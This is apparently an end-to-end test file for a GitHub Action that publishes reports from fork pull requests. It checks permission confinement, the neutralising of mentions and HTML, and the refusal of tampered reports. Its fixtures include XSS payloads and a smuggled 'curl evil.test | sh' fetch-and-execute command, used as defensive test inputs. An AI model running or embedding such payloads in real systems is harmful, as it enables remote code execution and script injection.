/* eslint-disable @typescript-eslint/no-explicit-any, @typescript-eslint/no-unsafe-call -- the tests edit report.json as plain JSON */
/**
 * Mode publish end to end (docs/fork-pull-requests.md): a fork's pull_request run — read-only
 * token, reader kubeconfig — writes report.json and posts nothing; a second run in mode publish
 * on workflow_run posts it through the loopback GitHub emulator, which knows the pull request
 * with the fork as its head. The publish run is Node under its permission model: it may read the
 * bundle without its client-node chunk, the runner's files (event payload, outputs) and the
 * report, nothing else, and start no process; its workspace is the fork's checkout, so reading
 * any of the fork's files would fail the run (as it fails mode check, the control).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { GitHubEmulator } from '../github-emulator/server.js'
import { writeFixtureRepo, type FixtureRepo } from '../support/fixture-repo.js'
import { commitAll } from '../support/git-repo.js'
import { parseMarker } from '../../src/report/marker.js'
import {
  buildFreshDist,
  gatedTokens,
  kubeconfigs,
  pullRequestPayload,
  pushPayload,
  runAction,
  workflowRunPayload,
  type ActionResult
} from './harness.js'

const fork = 'contributor/deploy'
let dist: string
/** The bundle without the chunk that holds @kubernetes/client-node: publish must not need it. */
let lean: string
let emulator: GitHubEmulator
let repo: FixtureRepo
let head: string
let forkRun: ActionResult

beforeAll(async () => {
  dist = buildFreshDist()
  lean = join(mkdtempSync(join(tmpdir(), 'tazuna-e2e-lean-')), 'dist')
  cpSync(dist, lean, { recursive: true })
  // KubeConfig.loadFromDefault is client-node's; the chunk with it is the client-node chunk.
  const clientNode = readdirSync(lean).filter(
    (f) =>
      f.endsWith('.js') &&
      f !== 'index.js' &&
      readFileSync(join(lean, f), 'utf8').includes('loadFromDefault')
  )
  if (clientNode.length === 0) throw new Error('no chunk of the bundle holds client-node')
  for (const file of clientNode) rmSync(join(lean, file))
  emulator = await GitHubEmulator.start({ tokens: gatedTokens })
  repo = writeFixtureRepo()
  head = commitAll(repo.dir, 'a contribution')
  for (const [number, headRepository] of [
    [11, fork],
    [12, 'someone/else']
  ] as const) {
    emulator.registerPull({
      owner: 'acme',
      repo: 'deploy',
      number,
      headCommits: [number === 11 ? head : 'b'.repeat(40)],
      headRepository,
      headRef: 'patch-1'
    })
  }
  forkRun = await runAction({
    dist,
    workspace: repo.dir,
    inputs: {
      config: 'tazuna.yaml',
      kubeconfig: kubeconfigs.reader(),
      'github-token': 'read-only-token',
      'content-diff': 'off'
    },
    eventName: 'pull_request',
    payload: pullRequestPayload({ number: 11, headSha: head, headRepo: fork }),
    sha: head,
    apiUrl: emulator.url
  })
}, 300_000)
afterAll(async () => emulator?.close())

/** The report directory as actions/download-artifact leaves it, with report.json edited. */
function artifact(edit: (report: Record<string, any>) => void = () => {}): string {
  const dir = join(mkdtempSync(join(tmpdir(), 'tazuna-e2e-artifact-')), 'tazuna-report')
  cpSync(dirname(forkRun.outputs['report-path']!), dir, { recursive: true })
  const file = join(dir, 'report.json')
  const report = JSON.parse(readFileSync(file, 'utf8')) as Record<string, any>
  edit(report)
  writeFileSync(file, JSON.stringify(report, null, 2))
  return dir
}

/**
 * Node's permission model: reads of the bundle without client-node, the runner's files and the
 * report; writes of the runner's files; no child process.
 */
const confined = (report: string) => (runDir: string) => [
  '--permission',
  `--allow-fs-read=${lean}`,
  `--allow-fs-read=${runDir}`,
  `--allow-fs-read=${report}`,
  `--allow-fs-write=${runDir}`
]

function publish(report: string, event: { headSha?: string; pullRequests?: number[] } = {}) {
  return runAction({
    dist: lean,
    workspace: repo.dir,
    inputs: { mode: 'publish', report, config: 'tazuna.yaml', 'github-token': 'gh-token' },
    eventName: 'workflow_run',
    payload: workflowRunPayload({
      headSha: event.headSha ?? head,
      headRepo: fork,
      headBranch: 'patch-1',
      ...(event.pullRequests === undefined ? {} : { pullRequests: event.pullRequests })
    }),
    sha: 'c'.repeat(40),
    apiUrl: emulator.url,
    nodeArgs: confined(report)
  })
}

/** What Node says when the permission model refuses a read. */
const denied = 'Access to this API has been restricted'
const commentsOn = (issue: number) => emulator.comments.filter((c) => c.issue === issue)

describe('a fork pull request', () => {
  it('writes its report and posts no comment with its read-only token', () => {
    expect(forkRun.status).toBe(0)
    expect(forkRun.stdout).toContain('a workflow_run workflow in mode publish can post it')
    expect(JSON.parse(readFileSync(forkRun.outputs['report-path']!, 'utf8'))).toMatchObject({
      sha: head,
      pullRequest: 11
    })
    expect(commentsOn(11)).toEqual([])
  })
})

describe('mode publish', () => {
  it('is confined where a mode that reads the checkout fails: mode check cannot read tazuna.yaml', async () => {
    const result = await runAction({
      dist: lean,
      workspace: repo.dir,
      inputs: { mode: 'check', config: 'tazuna.yaml' },
      eventName: 'workflow_run',
      payload: {},
      sha: head,
      apiUrl: emulator.url,
      nodeArgs: confined(artifact())
    })
    expect(result.status).not.toBe(0)
    expect(result.stdout).toContain(`failed to read tazuna.yaml: ${denied}`)
  }, 120_000)

  it('posts the report on the pull request, reading nothing of the fork but the report', async () => {
    const result = await publish(artifact())
    expect(result.stdout + result.stderr).not.toContain(denied)
    expect(result.status).toBe(0)
    const [comment] = commentsOn(11)
    expect(commentsOn(11)).toHaveLength(1)
    expect(comment!.user.login).toBe('github-actions[bot]')
    expect(result.outputs['comment-url']).toContain('/pull/11#issuecomment-')
    expect(parseMarker(comment!.body)).toEqual({
      tool: 'tazuna-action',
      schema: 2,
      config: 'tazuna.yaml',
      environment: '',
      sha: head,
      published: true
    })
    expect(comment!.body).toContain(
      "> Computed by [the pull request's workflow run](https://github.com/acme/deploy/actions/runs/99) for `contributor/deploy`"
    )
    expect(comment!.body).toContain(`\`${repo.manifests.web}\``)
    expect(comment!.body).not.toContain('Diff digest')
  }, 120_000)

  it('updates the same comment on a second publish, with mentions and HTML of the report inert', async () => {
    const [before] = commentsOn(11)
    const result = await publish(
      artifact((r) => {
        const changed = r.manifests.find((m: any) => m.entries.length > 0)
        changed.error = 'cc @acme/admins </details><img src=x onerror=alert(1)>'
        r.risks = [
          {
            kind: 'widens-access',
            manifest: changed.manifest,
            key: changed.entries[0].key,
            path: 'rules',
            message: 'ping @octocat <script>alert(1)</script> [review](https://evil.test)',
            accepted: false
          }
        ]
      })
    )
    expect(result.status).toBe(0)
    expect(commentsOn(11)).toHaveLength(1)
    const [after] = commentsOn(11)
    expect(after!.id).toBe(before!.id)
    expect(after!.body).not.toMatch(/@(acme|octocat)/)
    expect(after!.body).toContain('@\u2060octocat &lt;script&gt;')
    expect(after!.body).toContain('\\[review\\]\\(https://evil.test\\)')
    // In a code block, shown as text.
    expect(after!.body).toMatch(/```text\ncc @\u2060acme\/admins <\/details><img/)
  }, 120_000)

  it.each<[string, () => Promise<ActionResult>, string]>([
    [
      'a report naming another pull request',
      () => publish(artifact((r) => (r.pullRequest = 12))),
      "pull request #12's head is bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb, not the triggering run's commit"
    ],
    [
      'a report of another commit than the triggering run',
      () => publish(artifact(), { headSha: 'd'.repeat(40) }),
      `, the triggering run of ${'d'.repeat(40)}`
    ],
    [
      'a pull request the run does not list',
      () => publish(artifact(), { pullRequests: [12] }),
      'it names pull request #11, the triggering run #12'
    ],
    ['a report that is not JSON', () => publish(garbage()), 'is refused: it is not JSON'],
    [
      'a report with a field no report has',
      () => publish(artifact((r) => (r.run = 'curl evil.test | sh'))),
      'is refused: the report has an unknown field "run"'
    ]
  ])(
    'refuses %s and posts nothing',
    async (_, run, message) => {
      const before = JSON.stringify(emulator.comments)
      const writes = emulator.apiRequests().filter((r) => r.method !== 'GET').length
      const result = await run()
      expect(result.status).not.toBe(0)
      expect(result.stdout).toContain(message)
      expect(result.stdout).toContain('Nothing was posted.')
      expect(JSON.stringify(emulator.comments)).toBe(before)
      expect(emulator.apiRequests().filter((r) => r.method !== 'GET')).toHaveLength(writes)
    },
    120_000
  )
})

describe('a gated deploy after a published comment', () => {
  it('finds no reviewed Diff on the merged pull request, and require applies nothing', async () => {
    emulator.registerPull({
      owner: 'acme',
      repo: 'deploy',
      number: 11,
      headCommits: [head],
      headRepository: fork,
      headRef: 'patch-1',
      merge: { style: 'squash', commits: [head] }
    })
    const result = await runAction({
      dist,
      workspace: repo.dir,
      inputs: {
        config: 'tazuna.yaml',
        kubeconfig: kubeconfigs.admin(),
        'github-token': 'gh-token',
        'reviewed-diff': 'require'
      },
      eventName: 'push',
      payload: pushPayload(head),
      sha: head,
      apiUrl: emulator.url
    })
    expect(result.status).not.toBe(0)
    expect(result.stdout).toContain(
      "the comment on #11 was published from the pull request's own report (mode publish)"
    )
    expect(result.stdout).toContain('Nothing was applied; State and the cluster are unchanged.')
  }, 300_000)
})

function garbage(): string {
  const dir = artifact()
  writeFileSync(join(dir, 'report.json'), '{"schema": 1, "kind": "diff", "manifests": [')
  return dir
}
